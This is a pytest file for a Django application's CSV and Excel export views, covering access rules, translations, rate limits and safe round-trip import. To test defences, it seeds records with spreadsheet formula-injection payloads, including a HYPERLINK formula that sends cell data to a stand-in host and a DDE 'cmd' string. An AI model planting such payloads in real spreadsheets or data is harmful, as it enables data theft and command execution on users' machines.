"""Every list can be taken along, by those who may read its page, and says no more than the page."""

import re
from datetime import date
from io import BytesIO

import pytest
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from hospes.core.sheets import as_typed
from hospes.core.spreadsheets import read_sheet
from hospes.exports import register
from hospes.exports.views import tables as views
from hospes.journal.models import JournalLine
from hospes.matchmaking.actions import terms
from hospes.organisations.importing.plan import plan_import
from hospes.people.choices import PartnershipRole
from tests.exports.conftest import read
from tests.factories.introductions import proposed, wish_and_offer
from tests.factories.matchmaking import EntryFactory
from tests.factories.organisations import OrganisationFactory, PostFactory
from tests.factories.people import PersonFactory
from tests.manners.files import templates

pytestmark = pytest.mark.django_db


def test_the_catalogue_is_taken_along_with_the_readers_choices(client: Client) -> None:
    offer = EntryFactory(kind="offer", published=True, title="Two weeks in the kitchen")
    EntryFactory(kind="wish", published=True)

    _headings, rows = read(client.get("/lists/entries.csv?kind=offer&headings=codes"))

    assert [row["title"] for row in rows] == ["Two weeks in the kitchen"]
    assert rows[0]["kind"] == "offer"
    assert rows[0]["kind_label"] == "Offer to host"
    assert rows[0]["organisation"] == offer.organisation.name
    assert rows[0]["address"].endswith(offer.get_absolute_url())


def test_headings_are_in_the_readers_language_unless_codes_are_wanted(client: Client) -> None:
    spoken, _rows = read(client.get("/fr/lists/organisations.csv"))
    codes, _rows = read(client.get("/fr/lists/organisations.csv?headings=codes"))

    assert "Nom" in spoken
    assert codes[:2] == ["id", "name"]


def test_a_workbook_holds_the_same_and_no_formula(client: Client) -> None:
    OrganisationFactory(name='=HYPERLINK("http://x.example/?"&A1)', town="+cmd|' /C calc'!A0")

    answer = client.get("/lists/organisations.xlsx")
    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    assert '=HYPERLINK("http://x.example/?"&A1)' in [cell.value for cell in cells]


def test_a_formula_in_a_name_stays_a_text_that_comes_back_as_it_was(client: Client) -> None:
    names = ["=1+1", "＝1", "-2+3", "'=1", "@x", "a;=1", " \u00a0=1"]
    for name in names:
        OrganisationFactory(name=name)

    _headings, rows = read(client.get("/lists/organisations.csv?headings=codes"))

    assert sorted(as_typed(row["name"]) for row in rows) == sorted(names)
    assert [row["name"] for row in rows if re.match(r"[\s'￼]*[=＝+\-@]", row["name"]) and row["name"][0] != "'"] == []


def test_how_many_have_fewer_opportunities_leaves_with_ones_own_entries_only(client: Client, signed_in) -> None:
    post = PostFactory()
    EntryFactory(kind="wish", published=True, people=9, fewer_opportunities=7, organisation=post.organisation)

    public, rows = read(client.get("/lists/entries.csv?headings=codes"))
    own_headings, own = read(signed_in(post.person).get("/lists/my-entries.csv?headings=codes"))

    assert rows[0]["people"] == "9"
    assert "fewer_opportunities" not in public
    assert own_headings.count("fewer_opportunities") == 1
    assert own[0]["fewer_opportunities"] == "7"


def test_what_a_group_needs_is_not_told_to_visitors(client: Client, signed_in) -> None:
    EntryFactory(kind="wish", published=True, needs=["STEP_FREE"])

    for_visitors, _rows = read(client.get("/lists/entries.csv?headings=codes"))
    _headings, for_members = read(signed_in(PersonFactory()).get("/lists/entries.csv?headings=codes"))

    assert "needs" not in for_visitors
    assert for_members[0]["needs"] == "STEP_FREE"


def test_a_member_takes_along_only_introductions_of_their_own_organisation(signed_in) -> None:
    ours = proposed(*wish_and_offer())
    proposed(*wish_and_offer())
    member = PostFactory(organisation=ours.wish.organisation).person

    _headings, rows = read(signed_in(member).get("/lists/introductions.csv?headings=codes"))

    assert [row["id"] for row in rows] == [str(ours.pk)]


def test_a_list_of_people_is_sent_for_and_the_journal_notes_it(signed_in) -> None:
    administrator = PersonFactory(role=PartnershipRole.ADMINISTRATOR)
    browser = signed_in(administrator)

    looked = browser.get("/lists/people.csv")
    answer = browser.post("/lists/people.csv?headings=codes")

    assert looked.status_code == 405
    assert [row["email"] for row in read(answer)[1]] == [administrator.email]
    line = JournalLine.objects.get(verb="list.taken_along")
    assert (line.actor_key, line.facts) == (administrator.key, {"list": "people", "form": "csv"})


def test_what_one_may_not_take_along_is_not_there(client: Client) -> None:
    closed = [table.name for table in register.tables() if client.get(f"/lists/{table.name}.csv").status_code == 404]

    assert client.get("/lists/nothing.csv").status_code == 404
    assert client.get("/lists/entries.pdf").status_code == 404
    assert set(closed) == {
        "apprentice-rules",
        "desk-near",
        "desk-ready",
        "desk-waiting",
        "decisions",
        "deliveries",
        "entries-to-check",
        "entry-history",
        "introductions",
        "invitations",
        "join-requests",
        "mails",
        "my-entries",
        "my-searches",
        "my-tokens",
        "news-drafts",
        "notices",
        "organisation-history",
        "organisation-people",
        "people",
        "region-needs",
        "region-organisations",
        "suggestions",
        "undelivered",
    }


def test_the_number_of_queries_does_not_grow_with_the_rows(client: Client) -> None:
    def queries_for(path: str) -> int:
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            read(client.get(path))
        return len(captured)

    for _number in range(2):
        terms.rebuild(EntryFactory(published=True, full=True))
    few = [queries_for("/lists/entries.csv"), queries_for("/lists/organisations.csv")]
    for _number in range(6):
        terms.rebuild(EntryFactory(published=True, full=True))

    assert [queries_for("/lists/entries.csv"), queries_for("/lists/organisations.csv")] == few


def test_a_name_of_a_file_is_plain_and_says_the_day(client: Client) -> None:
    answer = client.get("/de/lists/entries.xlsx")
    assert b"".join(answer.streaming_content).startswith(b"PK")

    day = date.today().isoformat()
    assert answer["Content-Disposition"] == f'attachment; filename="entries-{day}.xlsx"'
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_whoever_asks_without_end_is_asked_to_wait(client: Client) -> None:
    answers = [client.head("/lists/regions.csv").status_code for _ in range(views.MOST_IN_AN_HOUR + 1)]

    assert (set(answers[:-1]), answers[-1]) == ({200}, 429)


def test_every_declared_list_stands_on_a_page() -> None:
    written = "\n".join(path.read_text(encoding="utf-8") for path in templates())

    offered = set(re.findall(r'{% download "([\w-]+)"', written))

    assert offered == {table.name for table in register.tables()}


def test_a_list_that_was_taken_along_comes_back_and_changes_nothing(client: Client) -> None:
    names = ["=1+1", "-2+3", "'=4", "Région d'Exemple", 'Łódź; "x"', "＝5"]
    for name in names:
        OrganisationFactory(name=name, town="+Town", oid="", pic="")
    content = b"".join(client.get("/lists/organisations.csv?headings=codes").streaming_content)

    sheet = read_sheet(content)
    plan = plan_import(sheet)

    assert sorted(row.cells["name"] for row in sheet.rows) == sorted(names)
    assert {row.cells["town"] for row in sheet.rows} == {"+Town"}
    assert plan.counts == {"new": 0, "changed": 0, "unchanged": len(names), "refused": 0}
